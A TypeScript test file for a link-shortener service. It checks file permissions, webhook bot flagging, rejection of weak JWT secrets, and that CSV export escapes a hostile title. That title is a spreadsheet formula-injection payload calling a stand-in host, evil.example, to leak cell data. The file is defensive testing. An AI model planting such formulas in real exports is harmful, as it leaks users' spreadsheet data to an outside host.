import { once } from 'node:events'
import { chmodSync, mkdirSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { shortlink } from '../hosts/cli/shortlink.ts'
import { newAccount } from '../support/api.ts'
import { temporaryFolder } from '../support/databases.ts'
import { startReceiver } from '../support/receiver.ts'
import { launchServer, testEnvironment } from '../support/server.ts'
import { attackedServer } from './attacked-server.ts'

it('L2, L3: in a data folder of mode 755 others read neither database nor log, and the export of a hostile title runs nothing', async () => {
  const folder = join(temporaryFolder(), 'data')
  mkdirSync(folder)
  chmodSync(folder, 0o755)
  const given = { DATA_DIR: folder, DATABASE_URL: `sqlite:${join(folder, 'shortlink.db')}` }
  const receiver = await startReceiver()
  const server = await attackedServer('sqlite', { ...given, WEBHOOK_ALLOW_PRIVATE: 'true' })
  const account = await newAccount(server.url)
  const title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
  const made = await account.ask(
    `mutation ($title: String!, $url: String!) {
      createShortlink(target: "https://example.com/", shortlink: "-2", title: $title)
      createBioPage(input: { slug: "ada" }) { id }
      createWebhook(input: { url: $url, events: ["bio.viewed"] }) { id }
    }`,
    { title, url: receiver.url },
  )
  expect(made.errors).toEqual([])
  for (const name of ['shortlink.db', 'shortlink.db-wal', 'shortlink.db-shm'])
    expect(statSync(join(folder, name)).mode & 0o777, name).toBe(0o600)

  const { stdout } = await shortlink(await testEnvironment('sqlite', given), [
    'link',
    'export',
    '-',
    '--user',
    account.email,
  ])
  expect(stdout).toContain(`\r\n'-2,https://example.com/,"'${title.replaceAll('"', '""')}",`)

  // And what was silent: a view by a program.
  await fetch(`${server.url}/bio/ada`, { headers: { 'user-agent': 'curl/8.14.1' } })
  const [event] = await receiver.arrived(1)
  expect(JSON.parse(event?.body ?? '{}')).toMatchObject({ type: 'bio.viewed', data: { view: { bot: true } } })
})

it('L11: a server does not start with a secret of 34 digits, and does not print it', async () => {
  const secret = '1234567890123456789012345678901234'
  const server = launchServer(await testEnvironment('sqlite', { JWT_SECRET: secret }))
  const [code] = await once(server.process, 'exit')
  expect(code).toBe(78)
  await expect.poll(server.log).toContain('JWT_SECRET must be random')
  expect(server.log()).not.toContain(secret)
})
